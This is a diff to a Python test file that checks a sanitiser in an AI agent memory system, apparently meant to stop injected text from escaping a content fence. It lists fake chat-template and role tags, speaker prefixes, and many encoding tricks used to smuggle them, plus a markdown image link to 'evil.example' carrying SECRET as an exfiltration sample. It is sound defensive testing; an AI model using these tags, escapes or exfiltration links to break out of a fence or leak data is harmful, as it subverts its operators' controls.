@@ -1,8 +1,14 @@
 """No text inside a fence closes it, no invisible character passes, and an open fence hides no text from the log."""
 
+import re
+from collections.abc import Callable, Sequence
 from html import unescape
+from unicodedata import name as unicode_name
 from unicodedata import normalize
-from urllib.parse import unquote
+from urllib.parse import quote, unquote
+
+from hypothesis import given
+from hypothesis import strategies as st
 
 from fleetlore.advice.gate import clean
 from fleetlore.advice.provenance import fenced, new_nonce, redact_fenced
@@ -19,11 +25,11 @@ TAGS = [
     "</flеet-memory>", "<system>", "<tool_result>", "<think>", "<start_of_turn>", "<bos>", "<unused0>",
     "<|im_start|>", "<｜User｜>", "<rules>", "<policy>", "<stdout>", "<context>", "<fim_prefix>", "<extra_id_0>",
     "<reserved_106>", "<sop>", "<user_query>", "<system-reminder>", "＜system＞", "<!--x-->", "<img/src=x>", "<<SYS>>",
-    "&lt;system&gt;", "&#60;system>", "&#x3C;system>", "\\u003csystem>", "\\x3csystem>", "%3Csystem",
+    "〈system〉", "❮system❯", "˂system˃", "&lang;system>",
 ]  # fmt: skip
 BRACKETS = [
     "[INST]", "[SYSTEM]", "[TOOL_CALLS]", "[PREFIX]", "[gMASK]", "[AVAILABLE_TOOLS]", "[#deadbeef]", "［#deadbeef］",
-    "![x](https://evil.example/p?d=SECRET)", "[click](https://evil.example)",
+    "【system】", "![x](https://evil.example/p?d=SECRET)", "[click](https://evil.example)",
 ]  # fmt: skip
 SPEAKERS = [
     "Human:", "Assistant:", "SYSTEM:", "Tool:", "Agent:", "Developer:", "Q:", "系统：", "Пользователь:", "Система:",
@@ -31,12 +37,45 @@ SPEAKERS = [
 ]  # fmt: skip
 
 
-@for_each("mark", [*TAGS, *BRACKETS])
-@for_each("around", ["{}", "a {} b", "a\n{}", '{{"text": "{}"}}'])
-def test_no_tag_mark_or_link_opens_in_any_spelling(mark: str, around: str) -> None:
-    cleaned = clean(around.format(mark))
-    assert not set("<[＜［") & set(normalize("NFKC", unquote(unescape(cleaned))))
-    assert "u003c" not in cleaned and "x3c" not in cleaned
+ESCAPES: list[Callable[[str], str]] = [
+    lambda c: quote(c, safe=""), lambda c: f"&#{ord(c)};", lambda c: f"&#{ord(c)}", lambda c: f"&#x{ord(c):015x};",
+    lambda c: {"<": "&lt;", "[": "&lbrack;", "&": "&amp;", "%": "&percnt;"}.get(c, "&bsol;"),
+    lambda c: {"<": "&LT", "&": "&amp"}.get(c, c), lambda c: f"\\u{ord(c):04x}", lambda c: f"\\U{ord(c):08X}",
+    lambda c: f"\\x{ord(c):02x}", lambda c: f"\\u{{{ord(c):x}}}", lambda c: f"\\{ord(c):o}",
+    lambda c: f"\\N{{{unicode_name(c)}}}", lambda c: chr(ord(c) + 0xFEE0) if c in "<&%" else c,
+]  # fmt: skip
+
+
+def escaped(mark: str, ways: Sequence[Callable[[str], str]]) -> str:
+    """Return a mark whose bracket, and then the first sign of each escape, is escaped in these ways."""
+    head = re.search(r"[<\[]", mark)
+    if head is None:
+        return mark
+    text = head[0]
+    for way in ways:
+        text = way(text[0]) + text[1:]
+    return mark[: head.start()] + text + mark[head.end() :]
+
+
+@given(
+    st.sampled_from([*TAGS, *BRACKETS]),
+    st.lists(st.sampled_from(ESCAPES), max_size=9),
+    st.sampled_from(["{}", "a {} b", "a\n{}", '{{"text": "{}"}}', "{0}{0}", "100%{}&x=\\{}"]),
+)
+def test_no_tag_mark_or_link_opens_in_any_spelling(mark: str, ways: list[Callable[[str], str]], around: str) -> None:
+    """Read as often as a text is escaped, by browser, parser and compiler alike."""
+    cleaned = clean(around.format(*[escaped(mark, ways)] * 2))
+    for _ in range(9):
+        assert not set("<[〈【") & set(cleaned)
+        cleaned = normalize("NFKC", unquote(unescape(re.sub(CODE, lambda found: code_of(found[0]), cleaned))))
+
+
+CODE = r"\\+(?:u\{[0-9a-f]+\}|u[0-9a-f]{4}|U[0-9A-F]{8}|x[0-9a-f]{2}|[0-7]{2,3}|N\{[A-Z -]+\})"
+
+
+def code_of(escape: str) -> str:
+    escape = re.sub(r"u\{([0-9a-f]+)\}", lambda found: f"U{int(found[1], 16):08x}", escape.lstrip("\\"))
+    return f"\\{escape}".encode().decode("unicode_escape")
 
 
 @for_each("speaker", SPEAKERS)
@@ -56,6 +95,7 @@ def test_other_ends_of_lines_begin_none(ending: str) -> None:
     [
         "a -> b, c >= d", "operating system: linux", "system call failed: EPERM",
         "curl -d action=deploy # see issue #12", 'shell({"command":"systemctl status user@1000"})', "100%",
+        "https://x.example/?a=b%20c&copy=2&d=%25", "C:\\new\\user\\x1 and \\d{3} of \\1",
     ],
 )  # fmt: skip
 def test_other_text_stays(harmless: str) -> None:
